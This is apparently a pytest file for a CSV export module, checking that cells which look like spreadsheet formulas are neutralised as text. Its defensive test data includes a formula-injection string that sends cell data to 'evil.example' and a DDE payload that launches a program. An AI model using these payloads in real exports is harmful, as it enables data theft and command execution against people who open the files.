"""What we write as CSV shows text in a spreadsheet and never runs it; two modules write CSV."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_out import BYTE_ORDER_MARK, csv_lines, csv_text, safe
from research.bundle.csv_files import csv_bytes

ROOT = Path(__file__).resolve().parents[3]
WRITERS = ("core/csv_out.py", "research/bundle/csv_files.py")
PACKAGES = ("core", "accounts", "questionnaires", "assess", "action_plans", "research")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?x="&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\ufeff=1",
        "＝1+1",
        "＠SUM(1)",
        "-",
    ],
)
def test_what_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("Alder Clinic", "Alder Clinic"),
        ("a=b", "a=b"),
        ("lead@example.org", "lead@example.org"),
        ("-3.5", "-3.5"),
        (-3, "-3"),
        (2.25, "2.25"),
        (None, ""),
        (True, "True"),
        (date(2026, 11, 21), "2026-11-21"),
        (datetime(2026, 11, 21, 14, 2, 3, tzinfo=UTC), "2026-11-21T14:02:03+00:00"),
        ("Ödön 😀", "Ödön 😀"),
    ],
)
def test_ordinary_cells_stay_as_they_are(cell: str | int | None, text: str) -> None:
    assert safe(cell) == text


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1)))
def test_every_cell_comes_back_and_none_begins_like_a_formula(rows: list[list[str]]) -> None:
    text = csv_text(["name"], rows).removeprefix(BYTE_ORDER_MARK)
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [[cell.removeprefix("'") for cell in row] for row in read] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell.lstrip()[:1] in set("=@＝＋－＠") for row in read for cell in row if cell)


def test_each_cell_is_quoted_so_that_no_other_separator_parts_it() -> None:
    assert list(csv_lines(["a", "b"], [["x;=1", 'say "hi"']])) == [
        f'{BYTE_ORDER_MARK}"a","b"\r\n',
        '"x;=1","say ""hi"""\r\n',
    ]


def test_the_data_bundle_guards_its_cells_by_the_same_rule() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [["=1+1"], ["-1"]]).decode(), newline="")))
    assert rows == [["a"], ["'=1+1"], ["-1"]]


def test_nobody_else_writes_csv() -> None:
    writers = []
    for path in [
        *ROOT.glob("*.py"),
        *(p for name in PACKAGES for p in ROOT.glob(f"{name}/**/*.py")),
    ]:
        if str(path.relative_to(ROOT)) in WRITERS:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            owner = getattr(getattr(node, "value", None), "id", getattr(node, "module", None))
            names = {getattr(node, "attr", None)}
            names |= {one.name for one in getattr(node, "names", ()) if hasattr(one, "name")}
            if owner == "csv" and names & {"writer", "DictWriter"}:
                writers.append(f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}")
    assert writers == []
